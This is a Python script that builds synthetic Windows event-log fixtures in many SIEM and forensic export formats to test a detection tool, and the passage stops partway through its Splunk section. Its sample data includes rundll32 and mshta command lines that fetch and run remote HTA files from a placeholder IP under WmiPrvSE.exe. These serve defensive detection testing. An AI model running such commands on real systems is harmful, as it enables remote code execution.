#!/usr/bin/env python3
"""mk_layout_samples.py - the schema-built samples of tests/data/layouts/.

One chain, written in every export layout `wmilolbas scan` reads, from the
field names each tool's own code or documentation gives (see the README in
each folder): on host WS01.corp.example, user CORP\\alice,

  1. WmiPrvSE.exe starts rundll32.exe directly          (a plain detection)
  2. WmiPrvSE.exe starts `cmd.exe /Q /c run.bat`,
  3.   which starts mshta.exe                             (a lineage detection)
  4. explorer.exe starts notepad.exe                      (benign)

plus one event that is not a process creation (Sysmon 3, or Security 4624
where the layout is Security's), first. Python standard library only;
deterministic. Run from the repository root:

    python3 tests/tools/mk_layout_samples.py
"""

import csv
import io
import json
import os
from datetime import datetime, timezone, timedelta

OUT = os.path.join("tests", "data", "layouts")

HOST = "WS01.corp.example"
COLLECTOR = "wec01.corp.example"
DOMAIN, NAME = "CORP", "alice"
USER = f"{DOMAIN}\\{NAME}"
SID = "S-1-5-21-1004336348-1177238915-682003330-1104"
LOGON_ID = "0x5a3f2e"
LOGON_GUID = "{6b1f0c2a-3a10-65e6-2e3f-5a0000000000}"
SYSMON_PID = 1840  # the Sysmon service: the *logging* process
HASHES = "SHA1=0000000000000000000000000000000000000000,MD5=00000000000000000000000000000000"

WMI = dict(
    path="C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
    cmd="C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
    pid=2864,
    guid="{6b1f0c2a-43ac-65e6-8a0b-000000002b00}",
    user="NT AUTHORITY\\NETWORK SERVICE",
)
EXPLORER = dict(
    path="C:\\Windows\\explorer.exe",
    cmd="C:\\Windows\\Explorer.EXE",
    pid=1000,
    guid="{6b1f0c2a-4000-65e6-0c01-000000002b00}",
    user=USER,
)
CMD = dict(
    path="C:\\Windows\\System32\\cmd.exe",
    cmd="cmd.exe /Q /c run.bat",
    pid=4200,
    guid="{6b1f0c2a-43ae-65e6-9f0c-000000002b00}",
    user=USER,
    ofn="Cmd.Exe",
    desc="Windows Command Processor",
)
EVENTS = [
    dict(
        time="2024-03-05 10:15:01.100",
        parent=WMI,
        path="C:\\Windows\\System32\\rundll32.exe",
        cmd="rundll32.exe url.dll,OpenURL http://198.51.100.7/a.hta",
        pid=4100,
        guid="{6b1f0c2a-43ad-65e6-9e0c-000000002b00}",
        ofn="RUNDLL32.EXE",
        desc="Windows host process (Rundll32)",
        record=5101,
    ),
    dict(time="2024-03-05 10:15:02.200", parent=WMI, record=5102, **CMD),
    dict(
        time="2024-03-05 10:15:02.300",
        parent=CMD,
        path="C:\\Windows\\System32\\mshta.exe",
        cmd="mshta.exe http://198.51.100.7/b.hta",
        pid=4300,
        guid="{6b1f0c2a-43ae-65e6-a00c-000000002b00}",
        ofn="MSHTA.EXE",
        desc="Microsoft (R) HTML Application host",
        record=5103,
    ),
    dict(
        time="2024-03-05 10:15:03.400",
        parent=EXPLORER,
        path="C:\\Windows\\System32\\notepad.exe",
        cmd="notepad.exe C:\\Users\\alice\\notes.txt",
        pid=4400,
        guid="{6b1f0c2a-43af-65e6-a10c-000000002b00}",
        ofn="NOTEPAD.EXE",
        desc="Notepad",
        record=5104,
    ),
]
for e in EVENTS:
    e.setdefault("user", USER)
OTHER_TIME = "2024-03-05 10:15:00.000"
LOCAL = timezone(timedelta(hours=-5))  # the hosts' zone where a layout writes local time


def utc(t):
    return datetime.fromisoformat(t + "+00:00")


def iso_z(t, digits=3):
    d = utc(t)
    frac = f"{d.microsecond:06d}"[:digits] if digits <= 6 else f"{d.microsecond:06d}0"
    return d.strftime("%Y-%m-%dT%H:%M:%S") + (f".{frac}" if digits else "") + "Z"


def local(t):
    return utc(t).astimezone(LOCAL)


def bare(guid):
    """A GUID as the evtx crate and Velociraptor write it: upper case, no braces."""
    return guid.strip("{}").upper()


def hexpid(pid):
    return hex(pid)


# --- the EventData of each event ----------------------------------------


def sysmon1(e, guid=lambda g: g):
    p = e["parent"]
    return {
        "RuleName": "-",
        "UtcTime": e["time"],
        "ProcessGuid": guid(e["guid"]),
        "ProcessId": str(e["pid"]),
        "Image": e["path"],
        "FileVersion": "10.0.19041.1 (WinBuild.160101.0800)",
        "Description": e["desc"],
        "Product": "Microsoft\u00ae Windows\u00ae Operating System",
        "Company": "Microsoft Corporation",
        "OriginalFileName": e["ofn"],
        "CommandLine": e["cmd"],
        "CurrentDirectory": "C:\\Windows\\system32\\",
        "User": e["user"],
        "LogonGuid": guid(LOGON_GUID),
        "LogonId": LOGON_ID,
        "TerminalSessionId": "1",
        "IntegrityLevel": "Medium",
        "Hashes": HASHES,
        "ParentProcessGuid": guid(p["guid"]),
        "ParentProcessId": str(p["pid"]),
        "ParentImage": p["path"],
        "ParentCommandLine": p["cmd"],
        "ParentUser": p["user"],
    }


SYSMON3 = {
    "RuleName": "-",
    "UtcTime": OTHER_TIME,
    "ProcessGuid": WMI["guid"],
    "ProcessId": str(WMI["pid"]),
    "Image": WMI["path"],
    "User": WMI["user"],
    "Protocol": "tcp",
    "Initiated": "false",
    "SourceIp": "198.51.100.9",
    "SourcePort": "49701",
    "DestinationIp": "10.0.0.15",
    "DestinationPort": "135",
}


def sec4688(e):
    p = e["parent"]
    return {
        "SubjectUserSid": SID,
        "SubjectUserName": NAME,
        "SubjectDomainName": DOMAIN,
        "SubjectLogonId": LOGON_ID,
        "NewProcessId": hexpid(e["pid"]),
        "NewProcessName": e["path"],
        "TokenElevationType": "%%1938",
        "ProcessId": hexpid(p["pid"]),
        "CommandLine": e["cmd"],
        "TargetUserSid": "S-1-0-0",
        "TargetUserName": "-",
        "TargetDomainName": "-",
        "TargetLogonId": "0x0",
        "ParentProcessName": p["path"],
        "MandatoryLabel": "S-1-16-8192",
    }


SEC4624 = {
    "SubjectUserSid": "S-1-0-0",
    "SubjectUserName": "-",
    "SubjectDomainName": "-",
    "SubjectLogonId": "0x0",
    "TargetUserSid": SID,
    "TargetUserName": NAME,
    "TargetDomainName": DOMAIN,
    "TargetLogonId": LOGON_ID,
    "LogonType": "3",
    "ProcessId": "0x0",
    "ProcessName": "-",
    "IpAddress": "198.51.100.9",
}


def sysmon1_message(d):
    lines = ["Process Create:"] + [f"{k}: {v}" for k, v in d.items()]
    return "\r\n".join(lines)


def sysmon3_message(d):
    return "\r\n".join(["Network connection detected:"] + [f"{k}: {v}" for k, v in d.items()])


def m4688(d):
    return (
        "A new process has been created.\r\n\r\n"
        "Creator Subject:\r\n"
        f"\tSecurity ID:\t\t{d['SubjectUserSid']}\r\n"
        f"\tAccount Name:\t\t{d['SubjectUserName']}\r\n"
        f"\tAccount Domain:\t\t{d['SubjectDomainName']}\r\n"
        f"\tLogon ID:\t\t{d['SubjectLogonId']}\r\n\r\n"
        "Target Subject:\r\n"
        "\tSecurity ID:\t\tS-1-0-0\r\n\tAccount Name:\t\t-\r\n\tAccount Domain:\t\t-\r\n"
        "\tLogon ID:\t\t0x0\r\n\r\n"
        "Process Information:\r\n"
        f"\tNew Process ID:\t\t{d['NewProcessId']}\r\n"
        f"\tNew Process Name:\t{d['NewProcessName']}\r\n"
        "\tToken Elevation Type:\t%%1938\r\n"
        "\tMandatory Label:\t\tMandatory Label\\Medium Mandatory Level\r\n"
        f"\tCreator Process ID:\t{d['ProcessId']}\r\n"
        f"\tCreator Process Name:\t{d['ParentProcessName']}\r\n"
        f"\tProcess Command Line:\t{d['CommandLine']}\r\n\r\n"
        "Token Elevation Type indicates the type of token that was assigned to the new process."
    )


M4624 = "An account was successfully logged on.\r\n\r\nLogon Type:\t\t3"


def write(rel, text, bom=False):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8-sig" if bom else "utf-8", newline="") as f:
        f.write(text)


def csv_text(header, rows, quote_all=False):
    buf = io.StringIO()
    w = csv.writer(
        buf, lineterminator="\r\n", quoting=csv.QUOTE_ALL if quote_all else csv.QUOTE_MINIMAL
    )
    w.writerow(header)
    for r in rows:
        w.writerow([r.get(h, "") for h in header])
    return buf.getvalue()


def jsonl(objs):
    return "".join(json.dumps(o, ensure_ascii=False) + "\n" for o in objs)


SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"


# --- ECS ------------------------------------------------------------------


def ecs_sysmon(e, record):
    p = e["parent"]
    return {
        "@timestamp": iso_z(e["time"]),
        "agent": {"type": "winlogbeat", "version": "8.12.0", "hostname": COLLECTOR},
        "ecs": {"version": "8.0.0"},
        "event": {
            "code": "1",
            "kind": "event",
            "category": ["process"],
            "type": ["start", "process_start"],
            "provider": "Microsoft-Windows-Sysmon",
            "module": "sysmon",
            "action": "Process Create (rule: ProcessCreate)",
        },
        "host": {"name": COLLECTOR},
        "log": {"level": "information"},
        "process": {
            "executable": e["path"],
            "name": e["path"].rsplit("\\", 1)[1],
            "pid": e["pid"],
            "entity_id": e["guid"],
            "command_line": e["cmd"],
            "args": e["cmd"].split(" "),
            "working_directory": "C:\\Windows\\system32\\",
            "pe": {"original_file_name": e["ofn"]},
            "parent": {
                "executable": p["path"],
                "name": p["path"].rsplit("\\", 1)[1],
                "pid": p["pid"],
                "entity_id": p["guid"],
                "command_line": p["cmd"],
            },
        },
        "user": {"name": NAME, "domain": DOMAIN, "id": "S-1-5-18"},
        "winlog": {
            "api": "wineventlog",
            "channel": SYSMON_CHANNEL,
            "computer_name": HOST,
            "event_id": "1",
            "provider_name": "Microsoft-Windows-Sysmon",
            "record_id": str(record),
            "process": {"pid": SYSMON_PID, "thread": {"id": 3000}},
            "event_data": {
                "IntegrityLevel": "Medium",
                "LogonId": LOGON_ID,
                "TerminalSessionId": "1",
            },
        },
    }


def ecs_sysmon3():
    return {
        "@timestamp": iso_z(OTHER_TIME),
        "ecs": {"version": "8.0.0"},
        "event": {"code": "3", "category": ["network"], "module": "sysmon"},
        "host": {"name": COLLECTOR},
        "process": {"executable": WMI["path"], "name": "WmiPrvSE.exe", "pid": WMI["pid"]},
        "winlog": {
            "channel": SYSMON_CHANNEL,
            "computer_name": HOST,
            "event_id": "3",
            "process": {"pid": SYSMON_PID},
        },
    }


def make_ecs():
    docs = [ecs_sysmon3()] + [ecs_sysmon(e, e["record"]) for e in EVENTS]
    hits = [
        {"_index": ".ds-winlogbeat-8.12.0-2024.03.05-000001", "_id": f"id{i}", "_score": 1.0,
         "_source": d}
        for i, d in enumerate(docs)
    ]
    response = {
        "took": 12,
        "timed_out": False,
        "_shards": {"total": 1, "successful": 1, "skipped": 0, "failed": 0},
        "hits": {"total": {"value": len(hits), "relation": "eq"}, "max_score": 1.0, "hits": hits},
    }
    write("ecs/winlogbeat8_sysmon_search.json", json.dumps(response, indent=2, ensure_ascii=False) + "\n")
    # Kibana Discover "CSV report": dotted names, Kibana's default date format.
    header = [
        "@timestamp", "host.name", "winlog.computer_name", "event.code", "winlog.channel",
        "user.domain", "user.name", "process.parent.executable", "process.parent.pid",
        "process.parent.entity_id", "process.executable", "process.pid",
        "process.entity_id", "process.command_line",
    ]
    rows = []
    for d in docs:
        t = datetime.fromisoformat(d["@timestamp"].replace("Z", "+00:00"))
        flat = {
            "@timestamp": t.strftime("%b %-d, %Y @ %H:%M:%S.") + f"{t.microsecond // 1000:03d}",
            "host.name": d["host"]["name"],
            "winlog.computer_name": d["winlog"]["computer_name"],
            "event.code": d["event"]["code"],
            "winlog.channel": d["winlog"]["channel"],
            "user.domain": d.get("user", {}).get("domain", "-"),
            "user.name": d.get("user", {}).get("name", "-"),
            "process.executable": d["process"]["executable"],
            "process.pid": d["process"]["pid"],
            "process.entity_id": d["process"].get("entity_id", "-"),
            "process.command_line": d["process"].get("command_line", "-"),
        }
        par = d["process"].get("parent")
        if par:
            flat.update({
                "process.parent.executable": par["executable"],
                "process.parent.pid": par["pid"],
                "process.parent.entity_id": par["entity_id"],
            })
        rows.append(flat)
    write("ecs/kibana_discover.csv", csv_text(header, rows, quote_all=True))
    # Elastic Agent's system.security data stream, NDJSON of _source: 4688,
    # no entity_id (PIDs link the chain); 4688's creator kept in event_data.
    lines = []
    for e in EVENTS:
        p = e["parent"]
        d = sec4688(e)
        lines.append({
            "@timestamp": iso_z(e["time"], 7),
            "data_stream": {"dataset": "system.security", "type": "logs"},
            "ecs": {"version": "8.11.0"},
            "event": {"code": "4688", "category": ["process"], "type": ["start"],
                      "action": "created-process", "provider": "Microsoft-Windows-Security-Auditing"},
            "host": {"name": HOST.split(".")[0].lower(), "hostname": HOST.split(".")[0]},
            "process": {"executable": e["path"], "name": e["path"].rsplit("\\", 1)[1],
                        "pid": e["pid"], "command_line": e["cmd"],
                        "parent": {"executable": p["path"], "name": p["path"].rsplit("\\", 1)[1],
                                   "pid": p["pid"]}},
            "user": {"name": NAME, "domain": DOMAIN, "id": SID},
            "winlog": {"channel": "Security", "computer_name": HOST, "event_id": "4688",
                       "process": {"pid": 4, "thread": {"id": 8000}},
                       "event_data": {"ProcessId": d["ProcessId"], "CommandLine": e["cmd"],
                                      "TokenElevationType": "%%1938"}},
        })
    lines.insert(0, {
        "@timestamp": iso_z(OTHER_TIME, 7),
        "event": {"code": "4624", "category": ["authentication"]},
        "host": {"name": "ws01"},
        "winlog": {"channel": "Security", "computer_name": HOST, "event_id": "4624",
                   "event_data": SEC4624},
    })
    write("ecs/elastic_agent_security_4688.ndjson", jsonl(lines))


# --- Winlogbeat 5/6 --------------------------------------------------------


def make_winlogbeat56():
    def doc(d, eid, t, record, message):
        return {
            "@timestamp": iso_z(t),
            "beat": {"hostname": COLLECTOR, "name": COLLECTOR, "version": "6.8.23"},
            "computer_name": HOST,
            "event_data": d,
            "event_id": eid,
            "level": "Information",
            "log_name": SYSMON_CHANNEL,
            "message": message,
            "opcode": "Info",
            "process_id": SYSMON_PID,
            "provider_guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
            "record_number": str(record),
            "source_name": "Microsoft-Windows-Sysmon",
            "task": "Process Create (rule: ProcessCreate)" if eid == 1 else "Network connection detected (rule: NetworkConnect)",
            "thread_id": 3000,
            "type": "wineventlog",
            "user": {"domain": "NT AUTHORITY", "identifier": "S-1-5-18", "name": "SYSTEM", "type": "User"},
            "version": 5,
        }
    docs = [doc(SYSMON3, 3, OTHER_TIME, 5100, sysmon3_message(SYSMON3).replace("\r\n", "\n"))]
    for e in EVENTS:
        d = sysmon1(e)
        docs.append(doc(d, 1, e["time"], e["record"], sysmon1_message(d).replace("\r\n", "\n")))
    write("winlogbeat56/winlogbeat6_sysmon.jsonl", jsonl(docs))


# --- HELK -------------------------------------------------------------------


def make_helk():
    hits = []
    for e in EVENTS:
        p = e["parent"]
        src = {
            "@timestamp": iso_z(e["time"]),
            "@event_date_creation": iso_z(e["time"]),
            "action": "processcreate",
            "beat_hostname": COLLECTOR,
            "event_id": 1,
            "host": {"name": COLLECTOR},
            "host_name": HOST.lower(),
            "log_name": SYSMON_CHANNEL,
            "process_command_line": e["cmd"].lower(),
            "process_current_directory": "c:\\windows\\system32\\",
            "process_guid": bare(e["guid"]),
            "process_id": str(e["pid"]),
            "process_integrity_level": "Medium",
            "process_name": e["path"].rsplit("\\", 1)[1].lower(),
            "process_parent_command_line": p["cmd"].lower(),
            "process_parent_guid": bare(p["guid"]),
            "process_parent_id": str(p["pid"]),
            "process_parent_name": p["path"].rsplit("\\", 1)[1].lower(),
            "process_parent_path": p["path"].lower(),
            "process_path": e["path"].lower(),
            "source_name": "Microsoft-Windows-Sysmon",
            "user_account": USER.lower(),
            "user_domain": DOMAIN.lower(),
            "user_name": NAME,
            "user_reporter_name": "SYSTEM",
            "user_reporter_sid": "S-1-5-18",
            "z_logstash_pipeline": ["1531", "1590", "1593"],
        }
        hits.append({"_index": "logs-endpoint-winevent-sysmon-2024.03.05", "_type": "_doc",
                     "_id": f"helk{e['record']}", "_score": None, "_source": src,
                     "fields": {"@timestamp": [iso_z(e["time"])]}})
    hits.insert(0, {"_index": "logs-endpoint-winevent-sysmon-2024.03.05", "_type": "_doc",
                    "_id": "helk5100", "_score": None,
                    "_source": {"@timestamp": iso_z(OTHER_TIME), "event_id": 3, "host_name": HOST.lower(),
                                "log_name": SYSMON_CHANNEL, "process_path": WMI["path"].lower(),
                                "process_name": "wmiprvse.exe", "process_id": str(WMI["pid"]),
                                "dst_ip_addr": "10.0.0.15", "dst_port": 135}})
    write("helk/helk_sysmon_hits.json", json.dumps(hits, indent=2) + "\n")


# --- PowerShell --------------------------------------------------------------

PS_COLUMNS = [
    "Message", "Id", "Version", "Qualifiers", "Level", "Task", "Opcode", "Keywords", "RecordId",
    "ProviderName", "ProviderId", "LogName", "ProcessId", "ThreadId", "MachineName", "UserId",
    "TimeCreated", "ActivityId", "RelatedActivityId", "ContainerLog", "MatchedQueryIds",
    "Bookmark", "LevelDisplayName", "OpcodeDisplayName", "TaskDisplayName",
    "KeywordsDisplayNames", "Properties",
]


def ps_time(t):
    d = local(t)
    return f"{d.month}/{d.day}/{d.year} {d.hour % 12 or 12}:{d:%M}:{d:%S} {'AM' if d.hour < 12 else 'PM'}"


def ps_row(message, eid, record, t, provider, logname, logging_pid, userid):
    return {
        "Message": message, "Id": eid, "Version": 5 if provider.endswith("Sysmon") else 2,
        "Qualifiers": "", "Level": 4 if provider.endswith("Sysmon") else 0,
        "Task": 1 if eid == 1 else 13312, "Opcode": 0,
        "Keywords": "-9223372036854775808" if provider.endswith("Sysmon") else "-9214364837600034816",
        "RecordId": record, "ProviderName": provider,
        "ProviderId": "5770385f-c22a-43e0-bf4c-06f5698ffbd9", "LogName": logname,
        "ProcessId": logging_pid, "ThreadId": 3000, "MachineName": HOST, "UserId": userid,
        "TimeCreated": ps_time(t), "ActivityId": "", "RelatedActivityId": "",
        "ContainerLog": logname, "MatchedQueryIds": "System.UInt32[]",
        "Bookmark": "System.Diagnostics.Eventing.Reader.EventBookmark",
        "LevelDisplayName": "Information", "OpcodeDisplayName": "Info",
        "TaskDisplayName": "Process Create (rule: ProcessCreate)" if eid == 1 else "Process Creation",
        "KeywordsDisplayNames": "System.Collections.ObjectModel.ReadOnlyCollection`1[System.String]",
        "Properties": "System.Collections.Generic.List`1[System.Diagnostics.Eventing.Reader.EventProperty]",
    }


def make_powershell():
    rows = [ps_row(sysmon3_message(SYSMON3), 3, 5100, OTHER_TIME, "Microsoft-Windows-Sysmon",
                   SYSMON_CHANNEL, SYSMON_PID, "S-1-5-18")]
    for e in EVENTS:
        rows.append(ps_row(sysmon1_message(sysmon1(e)), 1, e["record"], e["time"],
                           "Microsoft-Windows-Sysmon", SYSMON_CHANNEL, SYSMON_PID, "S-1-5-18"))
    write("powershell/get_winevent_sysmon_ps51.csv",
          '#TYPE System.Diagnostics.Eventing.Reader.EventLogRecord\r\n' + csv_text(PS_COLUMNS, rows, quote_all=True))
    rows = [ps_row(M4624, 4624, 9100, OTHER_TIME, "Microsoft-Windows-Security-Auditing", "Security", 4, "")]
    for e in EVENTS:
        rows.append(ps_row(m4688(sec4688(e)), 4688, e["record"] + 4000, e["time"],
                           "Microsoft-Windows-Security-Auditing", "Security", 4, ""))
    write("powershell/get_winevent_security_ps7.csv", csv_text(PS_COLUMNS, rows, quote_all=True))

    # ConvertTo-Json -Depth 3 (Windows PowerShell 5.1): one array, `/Date(ms)/`,
    # Properties by position; Message empty (no Sysmon manifest on the machine
    # that exported it).
    def ms(t):
        return int(utc(t).timestamp() * 1000)
    objs = []
    for e in EVENTS:
        d = sysmon1(e)
        props = [{"Value": int(v) if k in ("ProcessId", "ParentProcessId", "TerminalSessionId") else v}
                 for k, v in d.items()]
        objs.append({
            "Id": 1, "Version": 5, "Qualifiers": None, "Level": 4, "Task": 1, "Opcode": 0,
            "Keywords": -9223372036854775808, "RecordId": e["record"],
            "ProviderName": "Microsoft-Windows-Sysmon",
            "ProviderId": "5770385f-c22a-43e0-bf4c-06f5698ffbd9", "LogName": SYSMON_CHANNEL,
            "ProcessId": SYSMON_PID, "ThreadId": 3000, "MachineName": HOST, "UserId": {"BinaryLength": 12, "AccountDomainSid": None, "Value": "S-1-5-18"},
            "TimeCreated": f"/Date({ms(e['time'])})/", "ActivityId": None, "RelatedActivityId": None,
            "ContainerLog": SYSMON_CHANNEL, "MatchedQueryIds": [], "Bookmark": {},
            "LevelDisplayName": "Information", "OpcodeDisplayName": "Info",
            "TaskDisplayName": "Process Create (rule: ProcessCreate)",
            "KeywordsDisplayNames": [], "Properties": props, "Message": "",
        })
    text = json.dumps(objs, indent=4, ensure_ascii=False).replace('": ', '":  ').replace("/Date(", "\\/Date(").replace(")/", ")\\/")
    write("powershell/convertto_json_depth3.json", text + "\n")
    # ForEach { $_ | ConvertTo-Json -Compress }: JSON lines, Properties at the
    # default depth (type names only), Message read.
    lines = []
    for e in [None] + EVENTS:
        d = SYSMON3 if e is None else sysmon1(e)
        msg = sysmon3_message(d) if e is None else sysmon1_message(d)
        lines.append({
            "Id": 3 if e is None else 1, "Version": 5, "RecordId": 5100 if e is None else e["record"],
            "ProviderName": "Microsoft-Windows-Sysmon", "LogName": SYSMON_CHANNEL,
            "ProcessId": SYSMON_PID, "MachineName": HOST,
            "TimeCreated": f"/Date({ms(OTHER_TIME if e is None else e['time'])})/",
            "Properties": ["System.Diagnostics.Eventing.Reader.EventProperty"] * len(d),
            "Message": msg,
        })
    write("powershell/foreach_convertto_json_compress.jsonl",
          "".join(json.dumps(o, separators=(",", ":"), ensure_ascii=False).replace("/Date(", "\\/Date(").replace(")/", ")\\/") + "\n" for o in lines))


# --- EvtxECmd -----------------------------------------------------------------

EVTXECMD_COLUMNS = [
    "RecordNumber", "EventRecordId", "TimeCreated", "EventId", "Level", "Provider", "Channel",
    "ProcessId", "ThreadId", "Computer", "ChunkNumber", "UserId", "MapDescription", "UserName",
    "RemoteHost", "PayloadData1", "PayloadData2", "PayloadData3", "PayloadData4",
    "PayloadData5", "PayloadData6", "ExecutableInfo", "HiddenRecord", "SourceFile", "Keywords",
    "ExtraDataOffset", "Payload",
]


def evtxecmd_payload(d):
    return json.dumps({"EventData": {"Data": [{"@Name": k, "#text": v} for k, v in d.items()]}},
                      ensure_ascii=False, separators=(",", ":"))


def make_evtxecmd():
    rows = []
    for i, e in enumerate([None] + EVENTS):
        d = SYSMON3 if e is None else sysmon1(e)
        t = OTHER_TIME if e is None else e["time"]
        p = None if e is None else e["parent"]
        rows.append({
            "RecordNumber": 5100 + i, "EventRecordId": 5100 + i,
            "TimeCreated": utc(t).strftime("%Y-%m-%d %H:%M:%S.") + f"{utc(t).microsecond:06d}0",
            "EventId": 3 if e is None else 1, "Level": "Info",
            "Provider": "Microsoft-Windows-Sysmon", "Channel": SYSMON_CHANNEL,
            "ProcessId": SYSMON_PID, "ThreadId": 3000, "Computer": HOST, "ChunkNumber": 0,
            "UserId": "S-1-5-18",
            "MapDescription": "Network connection" if e is None else "Process creation",
            "UserName": USER if e else "", "RemoteHost": "",
            "PayloadData1": f"ProcessID: {d['ProcessId']}, ProcessGUID: {d['ProcessGuid']}",
            "PayloadData2": "RuleName: -", "PayloadData3": "",
            "PayloadData4": "" if e is None else f"ParentProcess: {p['path']}",
            "PayloadData5": "" if e is None else f"ParentProcessID: {p['pid']}, ParentProcessGUID: {p['guid']}",
            "PayloadData6": "" if e is None else f"ParentCommandLine: {p['cmd']}",
            "ExecutableInfo": WMI["path"] if e is None else e["cmd"], "HiddenRecord": "False",
            "SourceFile": "C:\\Triage\\WS01\\Microsoft-Windows-Sysmon%4Operational.evtx",
            "Keywords": "Classic", "ExtraDataOffset": 0, "Payload": evtxecmd_payload(d),
        })
    write("evtxecmd/evtxecmd_sysmon.csv", csv_text(EVTXECMD_COLUMNS, rows), bom=True)
    lines = []
    for r in rows:
        o = {k: v for k, v in r.items() if v != ""}
        o["TimeCreated"] = r["TimeCreated"].replace(" ", "T") + "+00:00"
        lines.append(o)
    write("evtxecmd/evtxecmd_sysmon.json", jsonl(lines))


# --- hayabusa -----------------------------------------------------------------


def make_hayabusa():
    header = ["Timestamp", "RuleTitle", "Level", "Computer", "Channel", "EventID", "RecordID",
              "Details", "ExtraFieldInfo", "RuleID"]
    rows = []
    for e in EVENTS:
        d = sysmon1(e, bare)
        t = utc(e["time"])
        details = " ¦ ".join([
            f"Cmdline: {d['CommandLine']}", f"Proc: {d['Image']}", f"User: {d['User']}",
            f"ParentCmdline: {d['ParentCommandLine']}", f"LID: {LOGON_ID}",
            f"LGUID: {bare(LOGON_GUID)}", f"PID: {d['ProcessId']}", f"PGUID: {d['ProcessGuid']}",
            f"ParentPID: {d['ParentProcessId']}", f"ParentPGUID: {d['ParentProcessGuid']}",
            f"Description: {d['Description']}", f"Product: {d['Product']}",
            f"Company: {d['Company']}", f"Hashes: {HASHES}",
        ])
        extra = " ¦ ".join([f"CurrentDirectory: {d['CurrentDirectory']}",
                             f"FileVersion: {d['FileVersion']}", f"IntegrityLevel: Medium",
                             f"OriginalFileName: {d['OriginalFileName']}",
                             f"ParentImage: {d['ParentImage']}", f"ParentUser: {d['ParentUser']}",
                             "RuleName: -", f"TerminalSessionId: 1", f"UtcTime: {d['UtcTime']}"])
        base = {"Timestamp": t.strftime("%Y-%m-%d %H:%M:%S.") + f"{t.microsecond // 1000:03d} +00:00",
                "Level": "info", "Computer": HOST, "Channel": "Sysmon", "EventID": 1,
                "RecordID": e["record"], "Details": details, "ExtraFieldInfo": extra}
        rows.append(dict(base, RuleTitle="Proc Exec", RuleID="85790e3e-e41d-4b12-ae33-a4ffe4a4d4e3"))
        if e["parent"] is WMI:
            rows.append(dict(base, RuleTitle="Suspicious WmiPrvSE Child Process", Level="high",
                             RuleID="8a582fe2-0882-4b89-a82a-da6b2dc32937"))
    t = utc(OTHER_TIME)
    rows.insert(0, {"Timestamp": t.strftime("%Y-%m-%d %H:%M:%S.000 +00:00"), "RuleTitle": "Net Conn",
                    "Level": "info", "Computer": HOST, "Channel": "Sysmon", "EventID": 3,
                    "RecordID": 5100,
                    "Details": f"Proto: tcp ¦ SrcIP: 198.51.100.9 ¦ SrcPort: 49701 ¦ SrcHost: - ¦ TgtIP: 10.0.0.15 ¦ TgtPort: 135 ¦ TgtHost: - ¦ User: {WMI['user']} ¦ Proc: {WMI['path']} ¦ PID: {WMI['pid']} ¦ PGUID: {bare(WMI['guid'])}",
                    "ExtraFieldInfo": "Initiated: false ¦ RuleName: -", "RuleID": "ba7b8ef6-0000-4d21-8a3c-000000000003"})
    write("hayabusa/hayabusa_chain_standard.csv", csv_text(header, rows, quote_all=True))


# --- chainsaw / evtx-crate JSON -------------------------------------------------


def evtx_json(d, eid, record, t, channel, provider, logging_pid):
    return {
        "Event": {
            "EventData": d,
            "System": {
                "Channel": channel, "Computer": HOST, "EventID": eid,
                "EventRecordID": record,
                "Execution_attributes": {"ProcessID": logging_pid, "ThreadID": 3000},
                "Provider_attributes": {"Name": provider},
                "TimeCreated_attributes": {"SystemTime": iso_z(t, 6)},
            },
        },
        "Event_attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
    }


def make_chainsaw():
    out = [evtx_json({k: (int(v) if k in ("ProcessId", "SourcePort") else v) for k, v in SYSMON3.items()},
                     3, 5100, OTHER_TIME, SYSMON_CHANNEL, "Microsoft-Windows-Sysmon", SYSMON_PID)]
    for e in EVENTS:
        d = sysmon1(e, bare)
        for k in ("ProcessId", "ParentProcessId", "TerminalSessionId"):
            d[k] = int(d[k])
        out.append(evtx_json(d, 1, e["record"], e["time"], SYSMON_CHANNEL, "Microsoft-Windows-Sysmon", SYSMON_PID))
    write("chainsaw/chainsaw_search_chain.json", json.dumps(out, indent=2, ensure_ascii=False) + "\n")


# --- Velociraptor -----------------------------------------------------------------


def make_velociraptor():
    header = ["EventTime", "Computer", "Channel", "Provider", "EventID", "EventRecordID",
              "UserSID", "Username", "EventData", "UserData", "Message", "OSPath"]
    rows = []
    for e in [None] + EVENTS:
        d = dict(SYSMON3) if e is None else sysmon1(e, bare)
        for k in ("ProcessId", "ParentProcessId", "TerminalSessionId", "SourcePort"):
            if k in d:
                d[k] = int(d[k])
        d["LogonId"] = int(LOGON_ID, 16) if "LogonId" in d else None
        d = {k: v for k, v in d.items() if v is not None}
        t = utc(OTHER_TIME if e is None else e["time"])
        rows.append({
            "EventTime": t.strftime("%Y-%m-%dT%H:%M:%S") + (("." + f"{t.microsecond:06d}".rstrip("0")) if t.microsecond else "") + "Z",
            "Computer": HOST, "Channel": SYSMON_CHANNEL, "Provider": "Microsoft-Windows-Sysmon",
            "EventID": 3 if e is None else 1, "EventRecordID": 5100 if e is None else e["record"],
            "UserSID": "S-1-5-18", "Username": "NT AUTHORITY\\SYSTEM", "EventData": d,
            "UserData": None, "Message": "",
            "OSPath": "C:\\Windows\\System32\\winevt\\Logs\\Microsoft-Windows-Sysmon%4Operational.evtx",
        })
    write("velociraptor/evtxhunter.jsonl", jsonl(rows))
    csv_rows = []
    for r in rows:
        c = dict(r)
        c["EventData"] = json.dumps(r["EventData"], indent=1, ensure_ascii=False)
        c["UserData"] = ""
        csv_rows.append(c)
    write("velociraptor/evtxhunter.csv", csv_text(header, csv_rows))


# --- Splunk classic WinEventLog -------------------------------------------------------


def classic(t, logname, code, source, record, task, message, extra=""):
    d = local(t)
    first = f"{d:%m/%d/%Y} {d.hour % 12 or 12:02d}:{d:%M}:{d:%S} {'AM' if d.hour < 12 else 'PM'}"
    return (f"{first}\nLogName={logname}\nEventCode={code}\nEventType=0\nComputerName={HOST}\n{extra}"
            f"SourceName={source}\nType=Information\nRecordNumber={record}\nKeywords=Audit Success\n"
            f"TaskCategory={task}\nOpCode=Info\nMessage={message.replace(chr(13), '')}")


def make_splunk():
    header = ["_time", "host", "source", "sourcetype", "index", "splunk_server", "_raw"]
    rows = [{
        "_time": utc(OTHER_TIME).astimezone(LOCAL).isoformat(timespec="milliseconds"),
